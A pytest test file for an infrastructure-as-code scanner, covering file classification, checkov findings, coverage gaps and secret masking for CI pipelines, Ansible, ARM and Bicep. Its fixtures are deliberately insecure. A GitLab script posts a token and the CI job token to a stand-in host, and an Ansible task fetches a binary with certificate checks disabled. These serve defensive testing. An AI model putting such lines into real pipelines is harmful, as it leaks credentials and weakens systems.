"""GitLab CI, Azure Pipelines, CircleCI, Ansible, ARM and Bicep: recognized, and checked by the
scanner's own runners; anything not looked at is reported."""

from __future__ import annotations

import json
import subprocess
from functools import cache

import pytest

from assessments.agents import AGENTS
from assessments.agents.types import AgentInput, AgentStatus
from assessments.requirements import Framework, Requirements
from assessments.scan.classify import classify
from assessments.scan.merge import ScanResult
from assessments.scan.redact import Redactor
from assessments.scan.sandbox import SCANNER
from assessments.scan.scopes import scopes_of
from assessments.scan.types import CoverageStatus, FileKind, Outcome
from tests.assessments.scanning import SCANNER_PYTHON, coverage_of, files_of, scan

GITLAB = """\
stages: [test]
build:
  stage: test
  image: node:latest
  script:
    - curl --data @token https://example.invalid/$CI_JOB_TOKEN
"""
AZURE = """\
trigger: [main]
jobs:
  - job: build
    pool: {vmImage: ubuntu-latest}
    container: {image: "node:latest"}
    steps:
      - ${{ if eq(variables.x, 'y') }}:
        - script: make
      - script: make test
"""
CIRCLECI = """\
version: 2.1
jobs:
  build:
    docker:
      - image: cimg/node:latest
    steps:
      - checkout
      - run: make
"""
PLAYBOOK = """\
- name: Servers
  hosts: all
  tasks:
    - name: Fetch {{ package }}
      ansible.builtin.get_url:
        url: https://example.invalid/tool
        dest: /usr/bin/tool
        validate_certs: false
"""
ARM = {
    "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#",
    "contentVersion": "1.0.0.0",
    "parameters": {"https": {"type": "bool", "defaultValue": True}},
    "resources": [
        {
            "type": "Microsoft.Storage/storageAccounts",
            "apiVersion": "2023-01-01",
            "name": "logs",
            "location": "westeurope",
            "tags": {"owner": "team"},
            "properties": {"supportsHttpsTrafficOnly": "[parameters('https')]"},
        }
    ],
}
PARAMETERS = {
    "$schema": "https://schema.management.azure.com/schemas/2019-04-01/deploymentParameters.json#",
    "contentVersion": "1.0.0.0",
    "parameters": {"https": {"value": False}},
}
BICEP = """\
module store 'modules/store.bicep' = {
  name: 'store'
}
module vault 'br/public:avm/res/key-vault/vault:0.6.0' = {
  name: 'vault'
}
module gone './gone.bicep' = {
  name: 'gone'
}
"""
STORE = """\
resource logs 'Microsoft.Storage/storageAccounts@2023-01-01' = {
  name: 'logs'
  location: 'westeurope'
  kind: 'StorageV2'
  sku: { name: 'Standard_LRS' }
  properties: { supportsHttpsTrafficOnly: false }
}
resource old 'Microsoft.Storage/storageAccounts@2023-01-01' existing = {
  name: 'old'
}
"""
FILES = {
    ".gitlab-ci.yml": GITLAB,
    "ci/build.yml": GITLAB,
    "azure-pipelines.yml": AZURE,
    "templates/build.yml": AZURE,
    ".circleci/config.yml": CIRCLECI,
    "site.yml": PLAYBOOK,
    "roles/web/tasks/main.yml": "- apt:\n    name: nginx\n- import_tasks: more.yml\n",
    "azuredeploy.json": json.dumps(ARM, indent=2),
    "azuredeploy.parameters.json": json.dumps(PARAMETERS),
    "infra/main.bicep": BICEP,
    "infra/main.bicepparam": "using 'main.bicep'\n",
    "infra/modules/store.bicep": STORE,
}
KINDS = {
    ".gitlab-ci.yml": FileKind.GITLAB_CI,
    "ci/build.yml": FileKind.GITLAB_CI,
    "azure-pipelines.yml": FileKind.AZURE_PIPELINES,
    "templates/build.yml": FileKind.AZURE_PIPELINES,
    ".circleci/config.yml": FileKind.CIRCLECI,
    "site.yml": FileKind.ANSIBLE,
    "roles/web/tasks/main.yml": FileKind.ANSIBLE,
    "azuredeploy.json": FileKind.ARM,
    "azuredeploy.parameters.json": FileKind.ARM,
    "infra/main.bicep": FileKind.BICEP,
    "infra/main.bicepparam": FileKind.BICEP,
    "infra/modules/store.bicep": FileKind.BICEP,
}


@cache
def result() -> ScanResult:
    return scan(files_of(**FILES), engines=["checkov"])


def failed(path: str) -> set[str]:
    found = (each for each in result().checks if each.file == path)
    return {each.rule for each in found if each.outcome is Outcome.FAILED}


def test_each_file_is_known_by_its_name_or_by_what_it_holds() -> None:
    assert {file.path: classify(file).kind for file in files_of(**FILES)} == KINDS


@pytest.mark.parametrize(
    "text",
    [
        "stages: [a, b]\n",
        "jobs: {build: {runs-on: ubuntu}}\n",
        "version: 2\nservices: []\n",
        "- a\n- b\n",
        "- name: someone\n  email: a@example.invalid\n",
        "script: 1\n",
    ],
)
def test_other_yaml_is_taken_for_no_pipeline(text: str) -> None:
    (file,) = files_of(**{"data.yml": text})
    assert classify(file).kind is FileKind.UNKNOWN


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        (".gitlab-ci.yml", "CKV_GITLABCI_1"),
        ("ci/build.yml", "CKV_GITLABCI_1"),
        ("azure-pipelines.yml", "CKV_AZUREPIPELINES_1"),
        ("templates/build.yml", "CKV_AZUREPIPELINES_1"),
        (".circleci/config.yml", "CKV_CIRCLECIPIPELINES_1"),
        ("site.yml", "CKV_ANSIBLE_2"),
        ("azuredeploy.json", "CKV_AZURE_3"),
        ("infra/modules/store.bicep", "CKV_AZURE_3"),
    ],
)
def test_each_kind_is_checked_by_the_scanners_own_runner(path: str, rule: str) -> None:
    assert rule in failed(path)


def test_an_arm_template_is_what_its_parameter_file_makes_it() -> None:
    """The default would pass."""
    alone = scan(files_of(**{"azuredeploy.json": json.dumps(ARM)}), engines=["checkov"])
    assert [e.outcome for e in alone.checks if e.rule == "CKV_AZURE_3"] == [Outcome.PASSED]
    assert "CKV_AZURE_3" in failed("azuredeploy.json")


def test_a_template_and_a_bicep_file_with_its_modules_are_scopes() -> None:
    scopes = {scope.key: scope.paths for scope in scopes_of([*map(classify, files_of(**FILES))])}
    assert scopes["azuredeploy.json:azuredeploy.parameters.json"] == [
        "azuredeploy.json",
        "azuredeploy.parameters.json",
    ]
    assert scopes["infra/main.bicep"] == [
        "infra/main.bicep",
        "infra/main.bicepparam",
        "infra/modules/store.bicep",
    ]
    assert ".gitlab-ci.yml" in scopes["repository"]


def test_resources_of_azure_are_in_the_inventory_with_their_lines() -> None:
    found = {(each.file, each.address): each for each in result().resources}
    arm = found["azuredeploy.json", "Microsoft.Storage/storageAccounts.logs"]
    assert (arm.provider, arm.region, arm.exact) == ("azure", "westeurope", False)
    assert arm.attributes["tags"] == {"owner": "team"}
    assert "__startline__" not in json.dumps(arm.to_builtins())
    bicep = found["infra/modules/store.bicep", "Microsoft.Storage/storageAccounts.logs"]
    assert (bicep.line_start, bicep.line_end) == (1, 7)
    assert not any(address.endswith(".old") for _, address in found)


def test_what_was_not_looked_at_is_named() -> None:
    gaps = {(gap.path, gap.status, gap.line): gap.reason for gap in result().gaps}
    partly = CoverageStatus.PARTLY_READ
    assert "vault:0.6.0" in gaps["infra/main.bicep", partly, 4]
    assert "infra/gone.bicep" in gaps["infra/main.bicep", partly, 7]
    unapplied = gaps["infra/main.bicepparam", CoverageStatus.NOT_ASSESSED, None]
    assert "bicep build-params" in unapplied
    tasks = coverage_of(result(), "roles/web/tasks/main.yml")
    assert (tasks.kind, tasks.status) == (FileKind.ANSIBLE, CoverageStatus.NOT_ASSESSED)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".gitlab-ci.yml", "build:\n  script: [make]\nx: !reference [build, script]\n"),
        ("main.bicep", "resource a 'Microsoft.Storage/storageAccounts@2023-01-01' = {\n"),
        ("named.json", json.dumps({**ARM, "resources": {"logs": {"type": "Microsoft.Web/sites"}}})),
    ],
)
def test_a_file_that_the_engine_passes_over_is_a_gap(path: str, text: str) -> None:
    told = scan(files_of(**{path: text}), engines=["checkov"])
    assert coverage_of(told, path).status is not CoverageStatus.READ


def test_the_grammar_of_bicep_is_compiled_when_the_scanner_is_installed() -> None:
    """Compiling it takes fifteen seconds, which each scan of a Bicep file took."""
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); import bicep_grammar, lark.lark, pycep\n"
        "lark.lark.load_grammar = None\n"
        "bicep_grammar.use_compiled()\n"
        "print('a' in pycep.BicepParser().parse(text='param a string')['parameters'])\n"
    )
    command = [str(SCANNER_PYTHON), "-I", "-c", code, str(SCANNER)]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert done.stdout == "True\n", done.stderr


def test_an_arm_template_may_have_comments() -> None:
    text = "// what it is\n" + json.dumps(ARM, indent=2).replace(
        '"contentVersion"', '/* "a" */ "contentVersion"'
    )
    told = scan(files_of(**{"azuredeploy.json": text}), engines=["checkov"])
    entry = coverage_of(told, "azuredeploy.json")
    assert entry.kind is FileKind.ARM
    assert entry.status is CoverageStatus.READ or entry.reason
    assert bool(told.checks) == (entry.status is CoverageStatus.READ)


def test_defaults_of_secure_parameters_are_masked() -> None:
    arm = json.dumps({"other": {"type": "secureString", "defaultValue": "hunter2hunter2"}})
    bicep = "@secure()\n@minLength(8)\nparam other string = 'hunter3hunter3'\n"
    for path, text in (("a.json", arm), ("main.bicep", bicep)):
        masked = Redactor.of(files_of(**{path: text})).text(text)
        assert "hunter" not in masked
        assert "other" in masked


def test_agents_answer_for_the_new_kinds() -> None:
    data = AgentInput(
        scopes=result().scopes,
        checks=result().checks,
        resources=result().resources,
        coverage=result().coverage,
        gaps=result().gaps,
        requirements=Requirements(frameworks=[Framework.CIS]),
    )
    answers = {
        name: AGENTS[name].run(data, lambda done, total, message: None)
        for name in ("security", "operations", "compliance", "cost")
    }
    assert answers["cost"].status is AgentStatus.NOT_ASSESSED
    rules = {name: {each.rule for each in answer.findings} for name, answer in answers.items()}
    assert {"CKV_GITLABCI_1", "CKV_AZUREPIPELINES_1"} <= rules["operations"]
    assert {"CKV_ANSIBLE_2", "CKV_AZURE_3"} <= rules["security"]
    assert any(table.key == "compliance_cis_azure" for table in answers["compliance"].tables)
